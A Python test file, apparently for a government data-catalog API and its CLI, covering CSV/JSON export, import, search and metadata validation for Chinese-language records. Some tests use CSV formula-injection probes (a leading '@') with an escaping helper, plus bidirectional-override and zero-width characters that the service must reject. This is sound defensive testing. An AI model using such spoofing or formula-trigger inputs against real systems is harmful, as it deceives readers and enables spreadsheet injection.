    register(api_env, "psb", document(title="分页导出 二", **{"dct:description": "@说明"}))
    tampered = register(api_env, "hrss", document(title="分页导出 被改"))
    sql(api_env, "UPDATE api_catalog_documents SET document = :d WHERE metadata_hash = :h",
        d=json.dumps(document(title="改过"), ensure_ascii=False), h=tampered["metadata_hash"])  # fmt: skip
    whole = api_env.call("GET", "/resources", "auditor", params=api_env.indexed(limit=500))
    listed = ok(whole)
    assert len(listed) > 4 and any(not r["verified"] for r in listed)

    monkeypatch.setattr(CatalogService, "EXPORT_PAGE", 2)
    as_json = api_env.call("GET", "/resources/export", "auditor")
    assert as_json.status_code == 200 and as_json.headers["content-type"] == "application/json"
    assert "content-length" not in as_json.headers  # streamed, not built whole
    assert as_json.content == whole.content

    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerow(["id", "owner", "owner_code", "share_type", "sensitivity", "metadata_hash", "schema_hash",
                     "verified", "title", "description", "metadata"])  # fmt: skip

    def cell(text: str) -> str:
        return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r", "\x00") else text

    for r in listed:
        doc = r["metadata"] or {}
        canonical = json.dumps(doc, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        writer.writerow([r["id"], r["owner"], r["owner_code"], r["share_type"], r["sensitivity"],
                         r["metadata_hash"], r["schema_hash"], "true" if r["verified"] else "false",
                         cell(doc.get("dct:title", "")), cell(doc.get("dct:description", "")),
                         "" if r["metadata"] is None else canonical])  # fmt: skip
    as_csv = api_env.call("GET", "/resources/export", "auditor", params={"format": "csv"})
    assert as_csv.status_code == 200 and "content-length" not in as_csv.headers
    assert as_csv.content == expected.getvalue().encode("utf-8-sig")


@pytest.mark.parametrize(
    "title",
    ["户籍\u202e信息人口", "户籍\u2066人口\u2069", "户籍人口\u2028基本信息", "户籍人口\n基本信息",
     "户籍人口 ", "\u3000户籍人口", "   "],
    ids=["rlo", "isolate", "line-separator", "newline", "trailing-space", "leading-ideographic-space",
         "spaces"],
)  # fmt: skip
def test_a_title_is_one_line_of_visible_text(api_env: ApiEnv, title: str) -> None:
    """A title is read in lists before anyone requests the data, as a department's name is before governors
    approve it: held to the same rule, and nothing is registered."""
    before = len(ok(api_env.call("GET", "/resources", "auditor", params=api_env.indexed(limit=500))))
    body = {
        "metadata": document(title=title),
        "schema_hash": b32(),
        "share_type": "unconditional",
        "sensitivity": 1,
    }
    refused = api_env.call("POST", "/resources", "psb", json=body)
    assert refused.status_code == 422, refused.text
    error = refused.json()["error"]
    assert (error["code"], error["field"]) == ("VALIDATION_ERROR", "metadata.dct:title")
    assert "one line of visible text" in error["message"]
    assert len(ok(api_env.call("GET", "/resources", "auditor", params=api_env.indexed(limit=500)))) == before


@pytest.mark.parametrize("control", ["\u202e", "\u202a", "\u2067"], ids=["rlo", "lre", "rli"])
def test_a_description_runs_over_lines_but_not_out_of_order(api_env: ApiEnv, control: str) -> None:
    lines = "第一行：户籍登记。\n第二行\u2028第三行\u200f（含 RLM）"
    record = register(api_env, "psb", document(title="多行说明的目录", **{"dct:description": lines}))
    assert (
        ok(api_env.call("GET", f"/resources/{record['id']}", "hrss"))["metadata"]["dct:description"] == lines
    )
    turned = document(title="反转说明的目录", **{"dct:description": f"付款账户{control}0001 号"})
    body = {"metadata": turned, "schema_hash": b32(), "share_type": "unconditional", "sensitivity": 1}
    refused = api_env.call("POST", "/resources", "psb", json=body)
    assert refused.status_code == 422, refused.text
    error = refused.json()["error"]
    assert (error["code"], error["field"]) == ("VALIDATION_ERROR", "metadata.dct:description")
    assert f"U+{ord(control):04X} is a bidirectional control" in error["message"]


def _by_hash(env: ApiEnv, doc: dict[str, Any], share_type: str = "unconditional") -> int:
    """A resource registered by its document's bare hash, the document not given."""
    body = {"metadata_hash": canonical_hash(doc), "schema_hash": b32(), "share_type": share_type,
            "sensitivity": 1}  # fmt: skip
    return int(ok(env.call("POST", "/resources", "psb", json=body), 201)["record"]["id"])


@pytest.mark.parametrize(
    ("doc", "share_type", "field", "says"),
    [
        (document(title="户籍\u202e信息人口"), "unconditional", "dct:title", "one line of visible text"),
        (document(title="\u200b\u200b"), "unconditional", "dct:title", "one line of visible text"),
        (document(title="户籍人口 "), "unconditional", "dct:title", "one line of visible text"),
        (document(title="反转说明", **{"dct:description": "付款账户\u202e0001 号"}), "unconditional",
         "dct:description", "U+202E is a bidirectional control"),
        (document(title="零宽说明", **{"dct:description": "\u200b\u2060"}), "unconditional",
         "dct:description", "characters that show nothing"),
        ({k: v for k, v in document(title="无条件说明").items() if k != "dct:accessRights"}, "conditional",
         "dct:accessRights", "needs dct:accessRights"),
    ],
    ids=["title-rlo", "title-zero-width", "title-trailing-space", "description-rlo", "description-zero-width",
         "conditional-without-access-rights"],
)  # fmt: skip
def test_an_import_holds_a_document_to_the_rules_of_post_resources(
    api_env: ApiEnv, doc: dict[str, Any], share_type: str, field: str, says: str
) -> None:
    """A resource registered by its bare hash and given its document by import: the document POST /resources
    refuses is refused here too, JSON or CSV, naming the row and the field, and the import stores nothing (a
    good document beside it neither); the good one alone then round-trips exactly."""
    bad_id = _by_hash(api_env, doc, share_type)
    good = document(title=f"户籍人口基本信息（导入 {bad_id}） — «naïve» 𠀀")
    good_id = _by_hash(api_env, good)
    as_json = {"resources": [{"id": good_id, "metadata": good}, {"id": bad_id, "metadata": doc}]}
    as_csv = {"csv": f"id,metadata\r\n{good_id},{_csv_cell(good)}\r\n{bad_id},{_csv_cell(doc)}\r\n"}
    for body, where, named in [(as_json, "resources[1].metadata.", "resources.1.metadata"),
                               (as_csv, "CSV line 3: metadata.", "csv")]:  # fmt: skip
        refused = api_env.call("POST", "/resources/import", "hrss", json=body)
        error = refused.json()["error"]
        assert (refused.status_code, error["code"], error["field"]) == (422, "VALIDATION_ERROR", named)
        message = error["message"]
        assert message.startswith(where + field + ": ") and says in message, message
        for rid in (good_id, bad_id):
            assert ok(api_env.call("GET", f"/resources/{rid}", "auditor"))["metadata"] is None
    imported = {"resources": [{"id": good_id, "metadata": good}]}
    assert ok(api_env.call("POST", "/resources/import", "hrss", json=imported))["imported"] == 1
    read = ok(api_env.call("GET", f"/resources/{good_id}", "auditor"))
    assert (read["metadata"], read["verified"]) == (good, True)


def test_cli_registers_reads_searches_exports_and_imports_a_chinese_document(
    api_env: ApiEnv, tmp_path: Path
) -> None:
    """The catalog through ``dxl catalog``, as over HTTP: what was written in the document file is what the
    ledger's hash covers, what ``show`` prints and what an export carries, byte for byte; a search by text,
    owner and share type finds it; an import of the exported file restores it to a service that lost it."""
    from tests.cli import dxl

    def cli(who: str, *args: str | Path) -> tuple[int, str, str]:
        return dxl(*args, "--api", api_env.url, "--token", api_env.tokens["demo-" + who])

    doc = document(title="不动产登记信息（命令行） — «naïve» 𠀀", **{"dcat:keyword": ["不动产权属"]})
    source = tmp_path / "doc.json"
    source.write_text(json.dumps(doc, ensure_ascii=False, indent=2), encoding="utf-8")
    schema = b32()
    code, out, err = cli("psb", "catalog", "add", "--document", source, "--share-type", "conditional",
                         "--schema-hash", schema, "--sensitivity", "2")  # fmt: skip
    assert code == 0, out + err
    found = re.fullmatch(
        r"catalogued resource (\d+): 不动产登记信息（命令行） — «naïve» 𠀀 — PSB, conditional, "
        r"sensitivity 2; document verified \(tx 0x[0-9a-f]{64}, block (\d+)\)\n",
        out,
    )
    assert found, out
    rid, block = found.groups()
    read = ok(api_env.call("GET", f"/resources/{rid}", "hrss"))
    assert (read["metadata"], read["verified"], read["metadata_hash"]) == (doc, True, canonical_hash(doc))
    assert read["schema_hash"] == schema

    code, out, err = cli("hrss", "catalog", "show", rid)
    head, text = out.split("\n", 1)
    assert code == 0 and head == f"resource {rid}: {doc['dct:title']} — PSB, conditional, sensitivity 2; " \
        "document verified", out + err  # fmt: skip
    assert json.loads(text) == doc
    code, out, _ = cli("hrss", "catalog", "show", rid, "--json")
    assert code == 0 and json.loads(out) == read

    def listed(*filters: str) -> list[int]:
        code, out, err = cli("auditor", "catalog", "list", *filters, "--min-block", block, "--json")
        assert code == 0, out + err
        return [int(e["id"]) for e in json.loads(out)]

    assert listed("--text", "不动产权属") == [int(rid)]
    assert listed("--text", "不动产权属", "--owner", "PSB", "--share-type", "conditional") == [int(rid)]
    assert listed("--text", "不动产权属", "--owner", "HRSS") == []
    assert listed("--text", "不动产权属", "--share-type", "unconditional") == []
    code, out, _ = cli("auditor", "catalog", "list", "--text", "不动产权属", "--min-block", block)
    assert code == 0 and out == f"resource {rid}: {doc['dct:title']} — PSB, conditional, sensitivity 2; " \
        "document verified\n"  # fmt: skip
    code, out, _ = cli("auditor", "catalog", "list", "--owner", "NOPE", "--json")
    assert code == 2 and json.loads(out)["error"] == "DEPARTMENT_NOT_FOUND"

    # The export is the API's, byte for byte (the CSV's byte order mark included).
    exported = {}
    for form in ("json", "csv"):
        exported[form] = tmp_path / f"catalog.{form}"
        code, out, err = cli("auditor", "catalog", "export", "--out", exported[form], "--format", form,
                             "--min-block", block)  # fmt: skip
        assert code == 0 and out.startswith(f"exported the catalog to {exported[form]} ({form}, "), out + err
        answered = api_env.call("GET", f"/resources/export?format={form}", "auditor")
        assert exported[form].read_bytes() == answered.content
    assert exported["csv"].read_bytes().startswith(b"\xef\xbb\xbf")
    assert doc["dct:title"].encode() in exported["csv"].read_bytes()
    code, out, _ = cli("auditor", "catalog", "export", "--out", tmp_path / "x", "--format", "xml", "--json")
    assert code == 2 and json.loads(out)["error"] == "USAGE_ERROR" and not (tmp_path / "x").exists()

    # A service that lost the document gets it back from either file (this entry's part of it: another
    # test's entry edited behind the service's back no longer hashes to the chain, and refuses an import).
    entries = json.loads(exported["json"].read_text(encoding="utf-8"))
    mine = tmp_path / "mine.json"
    mine.write_text(json.dumps([e for e in entries if e["id"] == int(rid)], ensure_ascii=False), "utf-8")
    rows = exported["csv"].read_bytes().decode("utf-8").split("\r\n")
    mine_csv = tmp_path / "mine.csv"
    mine_csv.write_bytes("\r\n".join([rows[0], *(r for r in rows if r.startswith(f"{rid},"))]).encode())
    for path in (mine, mine_csv):
        sql(api_env, "DELETE FROM api_catalog_documents WHERE metadata_hash = :h", h=canonical_hash(doc))
        code, out, _ = cli("hrss", "catalog", "show", rid)
        lost = f"resource {rid}: (no document stored for {canonical_hash(doc)}) — PSB, conditional, "
        assert code == 0 and out == lost + "sensitivity 2; no document\n", out
        code, out, err = cli("hrss", "catalog", "import", path)
        assert code == 0 and out == f"imported 1 documents from {path}\n", out + err
        read = ok(api_env.call("GET", f"/resources/{rid}", "hrss"))
        assert (read["metadata"], read["verified"]) == (doc, True), path

    # A document the API refuses is refused through the CLI alike, naming the field, and nothing is recorded.
    bare = tmp_path / "bare.json"
    bare.write_text(json.dumps({k: v for k, v in doc.items() if k != "dct:accessRights"}), encoding="utf-8")

    def psb_entries() -> list[int]:
        listed = ok(
            api_env.call("GET", "/resources", "auditor", params=api_env.indexed(owner="PSB", limit=500))
        )
        return [e["id"] for e in listed]

    before = psb_entries()
    code, out, _ = cli("psb", "catalog", "add", "--document", bare, "--share-type", "conditional",
                       "--schema-hash", schema, "--json")  # fmt: skip
    refused = json.loads(out)
    assert code == 2 and refused["error"] == "VALIDATION_ERROR" and "dct:accessRights" in refused["message"]
    assert psb_entries() == before
